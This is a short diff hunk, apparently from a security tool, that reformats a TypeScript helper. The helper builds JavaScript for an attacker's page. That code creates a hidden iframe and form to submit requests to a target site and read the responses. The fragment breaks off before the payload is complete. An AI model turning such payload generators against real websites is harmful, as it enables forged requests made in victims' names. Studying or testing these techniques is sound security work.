@@ -40,7 +40,8 @@ const fetched = (path: string, options: string) => (target: string) =>
      .catch(() => '')`
 
 /** A form in a frame of its own, so that the page of the attacker stays. Resolves when the answer is there, and reads it. */
-const form = (enctype: string, fields: string) => (target: string) => `new Promise((resolve) => {
+const form = (enctype: string, fields: string) => (target: string) =>
+  `new Promise((resolve) => {
   const frame = document.createElement('iframe')
   frame.name = 'answer' + Math.random()
   const form = document.createElement('form')
